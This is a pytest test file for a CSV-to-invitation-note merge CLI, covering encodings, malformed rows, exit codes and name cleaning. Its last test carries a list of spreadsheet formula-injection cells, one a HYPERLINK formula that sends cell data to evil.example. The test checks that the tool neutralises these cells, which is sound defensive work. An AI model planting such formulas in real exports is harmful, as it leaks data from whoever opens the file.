"""`invite merge`: CSVs as people export them, rows that fail among good ones, outputs, exit codes."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from pathlib import Path

import pexpect
import pytest

from tests.helpers import SAMPLES, run_cli, template

#: LinkedIn's Connections.csv as exported: a BOM, the "Notes:" preamble, CRLF, quoted commas. Invented people.
CONNECTIONS = (
    "\ufeffNotes:\r\n"
    '"When exporting your connection data, you may notice that some of the email addresses are missing. '
    'You will only see email addresses for connections who have allowed it, see https://www.linkedin.com/psettings/privacy/email"\r\n'
    "\r\n"
    "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
    'Ana,Lima,https://www.linkedin.com/in/ana-lima-example,,"Globex, Inc.","Head of Data, EMEA",08 Feb 2026\r\n'
    "Björn,Ørsted,https://www.linkedin.com/in/bjorn-orsted-example,,Initech,Engineer,01 Jan 2026\r\n"
)


def write(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_sample_merges_with_one_row_failing_and_the_others_rendered():
    result = run_cli("merge", str(SAMPLES / "merge" / "attendees.csv"), "-r", "event")
    assert result.exit_code == 1  # one row has no event, and two notes are near-identical
    rows = csv_rows(result.stdout)
    assert [r["First Name"] for r in rows] == ["Ana", "Ben", "Mei", "Omar", "Grace"]
    assert list(rows[0])[-5:] == ["note", "length", "limit", "findings", "status"]
    assert rows[0]["note"].startswith("Hi Ana, great meeting you at PyCon US") and rows[0]["status"] == "ok"
    assert rows[0]["length"] == str(len(rows[0]["note"])) and rows[0]["limit"] == "200"
    assert rows[3]["note"] == "" and rows[3]["status"].startswith("error: missing required answer(s)")
    assert "event" in rows[3]["status"]
    assert "row 4 (line 5): missing required answer(s)" in result.stderr
    assert "batch-duplicate" in rows[2]["findings"] and "batch-duplicate" in rows[4]["findings"]
    assert "near-identical group 1: 2 notes (50% of the batch), rows 3, 5" in result.stderr
    assert "Traceback" not in result.output


def test_connections_export_works_as_is(tmp_path: Path):
    source = write(tmp_path / "Connections.csv", CONNECTIONS)
    result = run_cli("merge", str(source), "-r", "reconnect", "--set", "shared_past=the Lisbon hackathon", "--format", "jsonl")
    assert result.exit_code == 1, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["recipient"] for r in records] == ["Ana Lima", "Björn Ørsted"]
    assert records[0]["columns"]["Company"] == "Globex, Inc."
    assert records[0]["profile_url"] == "https://www.linkedin.com/in/ana-lima-example"
    assert records[1]["note"].startswith("Hi Björn")
    assert records[0]["line"] == 5 and records[0]["row"] == 1


@pytest.mark.slow
def test_headers_map_by_name_case_and_spaces_and_quoted_newlines_survive(tmp_path: Path):
    source = write(
        tmp_path / "people.csv",
        'FIRST NAME , event\u00a0name,  Topic\nAna,"PyCon\nUS",packaging\nBen,RustConf,\n',
    )
    missing = run_cli("merge", str(source), "-t", "event-brief", "--format", "jsonl")
    assert missing.exit_code == 1
    assert all(
        "missing required answer(s) for 'event-brief': event" in r["status"] for r in map(json.loads, missing.stdout.splitlines())
    )
    result = run_cli("merge", str(source), "-t", "event-brief", "--map", "Event Name=event", "--format", "jsonl")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert records[0]["note"].startswith("Hi Ana, great meeting you at PyCon\nUS and talking about packaging.")
    assert records[0]["columns"]["event\u00a0name"] == "PyCon\nUS"
    assert records[1]["line"] == 4  # the quoted line break makes row 1 span lines 2-3


def test_set_fills_blank_cells_and_template_column_chooses_per_row(tmp_path: Path):
    source = write(
        tmp_path / "mixed.csv",
        "first_name,template,event,work_title\nAna,event-brief,,\nBen,content-brief,,Wheels explained\nCai,no-such-template,,\n",
    )
    result = run_cli("merge", str(source), "--set", "event=PyCon US", "--format", "jsonl", "--no-history")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert "PyCon US" in records[0]["note"]
    assert records[1]["template"] == "content-brief" and "Wheels explained" in records[1]["note"]
    assert records[2]["status"].startswith("error: ") and "no-such-template" in records[2]["status"]
    assert result.exit_code == 1


def test_output_file_is_written_and_never_overwritten_without_force(tmp_path: Path):
    target = tmp_path / "out.csv"
    args = ("merge", str(SAMPLES / "merge" / "attendees.csv"), "-r", "event", "--no-history", "-o", str(target))
    first = run_cli(*args)
    assert first.stdout == "" and "wrote 5 rows" in first.stderr
    assert len(csv_rows(target.read_text(encoding="utf-8"))) == 5
    target.write_text("mine", encoding="utf-8")
    again = run_cli(*args)
    assert again.exit_code == 2 and "already exists; use --force" in again.stderr
    assert target.read_text(encoding="utf-8") == "mine"
    forced = run_cli(*args, "--force")
    assert forced.exit_code == 1 and len(csv_rows(target.read_text(encoding="utf-8"))) == 5


def test_dry_run_shows_notes_and_writes_nothing(tmp_path: Path, history: Path):
    target = tmp_path / "out.csv"
    result = run_cli(
        "merge", str(SAMPLES / "merge" / "attendees.csv"), "-r", "event", "-o", str(target), "--dry-run", "--show", "2"
    )
    assert result.stdout == ""
    assert not target.exists() and not history.exists()
    assert "row 1: Ana Lima (event-brief)" in result.stderr and "row 2: Ben Ortiz" in result.stderr
    assert "row 3: Mei Chen" not in result.stderr  # only the first --show notes get a panel
    assert "dry run: nothing was written or recorded" in result.stderr


def test_no_progress_bar_off_a_terminal(tmp_path: Path):
    result = run_cli(
        "merge", str(SAMPLES / "merge" / "attendees.csv"), "-r", "event", "--no-history", "-o", str(tmp_path / "o.csv")
    )
    assert "merging" not in result.stderr and "━" not in result.stderr
    assert "\x1b[" not in result.stderr


@pytest.mark.slow
def test_progress_bar_on_a_terminal(tmp_path: Path):
    """Under a real terminal the bar is drawn on stderr, and the output file is still only the product."""
    target = tmp_path / "o.csv"
    env = {**os.environ, "INVITE_COMPOSER_HISTORY": str(tmp_path / "h.sqlite3"), "COLUMNS": "100"}
    cmd = [str(SAMPLES / "merge" / "attendees.csv"), "-r", "event", "-o", str(target)]
    child = pexpect.spawn(sys.executable, ["-m", "composer", "merge", *cmd], env=env, encoding="utf-8", timeout=60)
    child.expect("merging")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 1
    assert "merging" not in target.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--map", "Nope=event"), "has no column 'Nope'"),
        (("-t", "no-such-template"), "no-such-template"),
        (("--format", "xml"), "unknown --format 'xml'"),
        (("--map", "just-a-column"), "--map expects COLUMN=ANSWER"),
    ],
)
def test_input_errors_exit_2_with_one_line(args, message):
    result = run_cli("merge", str(SAMPLES / "merge" / "attendees.csv"), "-r", "event", *args)
    assert result.exit_code == 2, result.output
    assert message in result.stderr and result.stderr.count("\n") <= 2
    assert result.stdout == "" and "Traceback" not in result.output


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty file"),
        # UTF-8 as far as its encoding is guessed (the first 64 KB), then a byte that is not; few long rows,
        # so the rows before it are quick to read
        (b"first_name,event\n" + b"Ana," + b"P" * 70_000 + b"\n" + b"\xff\xfe broken\n", "not UTF-8"),
        (b"first_name,\x00event\nAna,x\n", "looks like a binary file"),
        (b'first_name,event\nAna,"' + b"x" * 200_000 + b'"\n', "not readable as CSV"),
        (b"first_name,,event\nAna,,PyCon\n", "empty column name"),
        (b"First Name,first_name\nAna,Ana\n", "both give the answer 'first_name'"),
    ],
)
def test_unusable_csv_exits_2_naming_the_file(tmp_path: Path, content: bytes, message: str):
    source = tmp_path / "bad.csv"
    source.write_bytes(content)
    result = run_cli("merge", str(source), "-r", "event")
    assert result.exit_code == 2, result.output
    assert message in result.stderr and str(source) in result.stderr
    assert "Traceback" not in result.output


def test_missing_file_and_no_template_are_usage_errors(tmp_path: Path):
    assert "no such file" in run_cli("merge", str(tmp_path / "nope.csv"), "-r", "event").stderr
    source = write(tmp_path / "p.csv", "first_name\nAna\n")
    result = run_cli("merge", str(source))
    assert result.exit_code == 2 and "say which template" in result.stderr


def test_a_row_with_too_many_fields_is_reported_and_the_rest_render(tmp_path: Path):
    source = write(tmp_path / "p.csv", "first_name,event\nAna,PyCon US\nBen,RustConf,extra\nCai,FOSDEM\n")
    result = run_cli("merge", str(source), "-r", "event", "--format", "jsonl", "--no-history")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["status"] for r in records][1] == "error: 3 fields, but the header has 2"
    assert records[0]["note"] and records[2]["note"]


def test_a_row_with_a_nul_byte_is_a_row_error(tmp_path: Path):
    source = write(tmp_path / "p.csv", "first_name,event\nAna,Py\x00Con\nBen,RustConf\n")
    result = run_cli("merge", str(source), "-r", "event", "--format", "jsonl", "--no-history")
    statuses = [json.loads(line)["status"] for line in result.stdout.splitlines()]
    assert statuses[0].startswith("error: ") and "NUL" in statuses[0] and not statuses[1].startswith("error")


def test_fail_on_and_select_decide_the_exit_code(tmp_path: Path):
    source = write(tmp_path / "p.csv", "first_name,event,topic\nAna,PyCon US,packaging\nBen,RustConf,async traits\n")
    assert run_cli("merge", str(source), "-r", "event", "--no-history").exit_code == 0
    generic = write(tmp_path / "g.csv", "first_name,shared_past\nAna,x\n")
    assert (
        run_cli(
            "merge", str(generic), "-t", "reconnect", "--no-history", "--ignore", "no-specifics", "--fail-on", "error"
        ).exit_code
        == 0
    )


def test_columns_already_named_like_the_added_ones_keep_their_values(tmp_path: Path):
    source = write(tmp_path / "p.csv", "first_name,event,status,note\nAna,PyCon US,vip,met at booth\n")
    result = run_cli("merge", str(source), "-r", "event", "--no-history")
    [row] = csv_rows(result.stdout)
    assert row["status"] == "vip" and row["note"] == "met at booth"
    assert row["invite_status"] == "ok" and row["invite_note"].startswith("Hi Ana")


def test_the_merge_runs_without_the_command_line(tmp_path: Path, history: Path):
    """`merge_csv` is the whole merge: options in, the output written, True when a row fails --fail-on."""
    from composer.config import Config
    from composer.lint import select_rules
    from composer.merge.job import MergeOptions, merge_csv
    from composer.settings import Settings
    from composer.templates.library import discover

    target = tmp_path / "notes.jsonl"
    settings = Settings.from_flags(Config(), fail_on="error")
    options = MergeOptions(
        csv_path=SAMPLES / "merge" / "attendees.csv",
        settings=settings,
        rules=select_rules(None, "batch-duplicate"),
        relationship="event",
        output_path=target,
        format="jsonl",
        record=False,
    )
    assert merge_csv(options, discover([])) is True  # row 4 has no event: no note
    rows = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    missing = "error: missing required answer(s) for 'event-brief': event"
    assert [row["status"] for row in rows] == ["ok", "ok", "ok", missing, "ok"]
    assert not history.exists()


def test_name_cells_are_cleaned_and_each_cleaning_is_an_info_finding(tmp_path: Path):
    """A Connections.csv as people fill their profiles: titles, credentials, pronouns, emoji, capitals."""
    rows = [
        ("Dr. Ana", "Lima, PhD", "ana-lima-example"),
        ("BEN", "ORTIZ", "ben-ortiz-example"),
        ("Mei 🚀", "Chen (she/her)", "mei-chen-example"),
        ("Omar", "Haddad", "omar-haddad-example"),
    ]
    body = "".join(
        f"{first},{last},https://www.linkedin.com/in/{slug},,Initech,Engineer,01 Jan 2026\r\n" for first, last, slug in rows
    )
    header = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
    source = write(tmp_path / "Connections.csv", header + body.replace("Lima, PhD", '"Lima, PhD"'))
    result = run_cli("merge", str(source), "-t", "reconnect", "--set", "shared_past=the Lisbon hackathon", "--format", "jsonl")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["note"].split(",")[0] for r in records] == ["Hi Ana", "Hi Ben", "Hi Mei", "Hi Omar"]
    assert [r["recipient"] for r in records] == ["Ana Lima", "Ben Ortiz", "Mei Chen", "Omar Haddad"]
    cleaned = [[f for f in r["findings"] if f["rule"] == "name-cleaned"] for r in records]
    assert [len(found) for found in cleaned] == [2, 2, 2, 0]
    assert {f["severity"] for found in cleaned for f in found} == {"info"}
    assert cleaned[0][0]["message"] == "First Name: 'Dr. Ana' read as 'Ana' (title)"
    assert "(pronouns)" in cleaned[2][1]["message"] and "(decorations)" in cleaned[2][0]["message"]
    assert records[0]["columns"]["First Name"] == "Dr. Ana"  # the input's own columns are passed through as given


# --------------------------------------------------------------------------- CSVs as Excel saves them


@pytest.mark.parametrize(
    ("separator", "encoding", "preface"),
    [(";", "utf-8-sig", ""), ("\t", "utf-16", ""), (";", "cp1252", ""), (",", "cp1252", ""), (";", "cp1252", "sep=;\r\n")],
)
def test_excel_csvs_read_with_their_separator_and_encoding(tmp_path: Path, separator: str, encoding: str, preface: str):
    """Excel where the decimal mark is a comma saves `;`; "Unicode text" is UTF-16 with tabs; ANSI is cp1252."""
    rows = [["First Name", "Last Name", "Company"], ["Café", "Müller", "Ärzte; Partner"], ["José", "Núñez", "Señor SA"]]
    lines = [separator.join(f'"{cell}"' if separator in cell else cell for cell in row) for row in rows]
    source = tmp_path / "people.csv"
    source.write_bytes((preface + "\r\n".join(lines) + "\r\n").encode(encoding))
    result = run_cli(
        "merge", str(source), "-t", "colleague-brief", "--format", "jsonl", "--no-record", "--ignore", "batch-duplicate"
    )
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["recipient"] for r in records] == ["Café Müller", "José Núñez"]
    assert "at Ärzte; Partner" in records[0]["note"] and records[1]["columns"]["Company"] == "Señor SA"


def test_company_names_filled_by_the_merge_are_no_link_or_placeholder(tmp_path: Path):
    source = write(
        tmp_path / "Connections.csv",
        "First Name,Last Name,Company\nAna,Lima,Crypto.com\nBen,Ortiz,[Acme Corp]\nMei,Chen,https://acme.example/jobs\n",
    )
    result = run_cli("merge", str(source), "-t", "colleague-brief", "--format", "jsonl", "--no-record")
    findings = [{f["rule"] for f in json.loads(line)["findings"]} for line in result.stdout.splitlines()]
    assert "link" not in findings[0] and "placeholder" not in findings[1]
    assert "link" in findings[2]  # a real address stays a link, whoever wrote it
    lint = run_cli("lint", "-", input="Hi Ana, we worked together at Crypto.com on [Project], so let's stay connected.\n")
    assert (
        "[link]" in lint.stdout + lint.stderr and "[placeholder]" in lint.stdout + lint.stderr
    )  # the linter alone still says so


#: Cells a spreadsheet would run as formulas (OWASP's list of first characters), as a hostile export could carry them.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.mark.slow
def test_csv_cells_that_start_like_formulas_are_written_as_text(tmp_path: Path):
    """Every cell (input columns, header, the note itself) that would run as a formula gets a leading quote."""
    template(tmp_path / "tpl", "{{ event }}: great meeting you there, {{ first_name }}.", id="event-first")
    header = ["First Name", "Event", "=Header", *(f"c{i}" for i in range(len(FORMULAS)))]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([header, ["Ana", "@PyCon", "x", *FORMULAS]])
    source = write(tmp_path / "people.csv", buffer.getvalue())
    args = ("merge", str(source), "-t", "event-first", "--templates-dir", str(tmp_path / "tpl"), "--no-record")
    result = run_cli(*args, "--select", "already-invited")
    assert result.exit_code == 0, result.output
    [written_header, row] = list(csv.reader(io.StringIO(result.stdout)))
    assert written_header[:3] == ["First Name", "Event", "'=Header"]
    assert row[:2] == ["Ana", "'@PyCon"]
    assert row[3 : 3 + len(FORMULAS)] == [f"'{cell}" for cell in FORMULAS]
    note, length = row[3 + len(FORMULAS)], row[4 + len(FORMULAS)]
    assert note == "'@PyCon: great meeting you there, Ana." and int(length) == len(note) - 1  # the note's own length
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written_header + row)
    as_jsonl = json.loads(run_cli(*args, "--select", "already-invited", "--format", "jsonl").stdout)
    assert as_jsonl["note"] == "@PyCon: great meeting you there, Ana." and as_jsonl["columns"]["c0"] == FORMULAS[0]
